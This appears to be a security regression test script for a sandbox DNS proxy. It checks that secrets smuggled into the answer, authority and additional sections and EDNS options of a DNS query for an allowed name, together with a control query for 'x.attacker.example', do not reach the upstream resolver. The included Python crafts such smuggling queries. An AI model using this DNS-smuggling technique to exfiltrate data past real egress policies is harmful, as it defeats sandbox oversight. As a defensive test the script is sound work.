#!/usr/bin/env bash
# SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
# Attack: data beyond the name. Records in the answer/authority/additional
# sections and EDNS options of a query for an exact allowed name (where no
# label can carry data) must not reach the upstream. They once rode along
# verbatim; the upstream now gets a query built from the question alone
# (dns_message.c vr_dns_upstream_query). Counted at a raw upstream that logs what
# it receives. Control: the same query for a refused name never arrives.
set -u
. "$(dirname "$0")/rt_lib.sh"
vr_init dig
rt_jail
cat >"$VR_TMP/up.py" <<'PY'
import socket, sys, struct, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("10.233.1.1", 5353)); s.settimeout(1)
log = open(sys.argv[1], "ab", buffering=0); open(sys.argv[2], "w").close(); end = time.time() + 100
while time.time() < end:
    try: d, a = s.recvfrom(65535)
    except OSError: continue
    log.write(d + b"\n----\n")
    i = 12
    while d[i]: i += d[i] + 1
    s.sendto(d[:2] + b"\x81\x80\0\1\0\0\0\0\0\0" + d[12:i + 5], a)
PY
ip netns exec "$jail" "$VR_PY" "$VR_TMP/up.py" "$VR_TMP/raw" "$VR_TMP/up.ready" & vr_pids+=($!)
vr_wait_for 3 test -e "$VR_TMP/up.ready" || vr_fatal upstream
expect "attach" vj attach vrj --policy "$(vr_policy p '{"default": "deny", "allow": ["api.example.test:443/tcp"]}')"
rt_proxy
cat >"$VR_TMP/q.py" <<'PY'
import socket, struct, sys
name, marker = sys.argv[1], sys.argv[2].encode()
qn = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
txt = b"\xc0\x0c" + struct.pack(">HHIH", 16, 1, 0, len(marker) + 1) + bytes([len(marker)]) + marker
opt = b"\0" + struct.pack(">HHIH", 41, 1232, 0, 4 + len(marker)) + struct.pack(">HH", 65001, len(marker)) + marker
m = struct.pack(">HHHHHH", 0x7777, 0x0100, 1, 1, 0, 2) + qn + struct.pack(">HH", 1, 1) + txt + txt + opt
s = socket.socket(); s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
s.sendto(m, ("192.0.2.53", 53))
try: print(s.recv(4096)[3] & 15)
except OSError: print("none")
PY
rc_ctl=$(ip netns exec "$sbx" "$VR_PY" "$VR_TMP/q.py" x.attacker.example CTLSECRET)
rc_att=$(ip netns exec "$sbx" "$VR_PY" "$VR_TMP/q.py" api.example.test EXFILSECRET)
ctl=$(grep -ac CTLSECRET "$VR_TMP/raw"); att=$(grep -ac EXFILSECRET "$VR_TMP/raw")
echo "# control (refused name): rcode $rc_ctl, marker lines at upstream $ctl"
echo "# attack (exact allowed name): rcode $rc_att, marker lines at upstream $att"
expect_eq "control: refused name's data at the upstream" "$ctl" 0
expect_eq "the allowed name's query is answered" "$rc_att" 0
expect_eq "attack: data smuggled beside an allowed name reaches the upstream (want 0)" "$att" 0
if [ "$att" -gt 0 ]; then
	rt_result raw_query_smuggle LEAKS "EDNS option + 2 TXT records beside api.example.test reached the upstream verbatim (control: $ctl)"
else
	rt_result raw_query_smuggle HOLDS "stripped"
fi
echo "$vr_passed passed, $vr_failed failed"
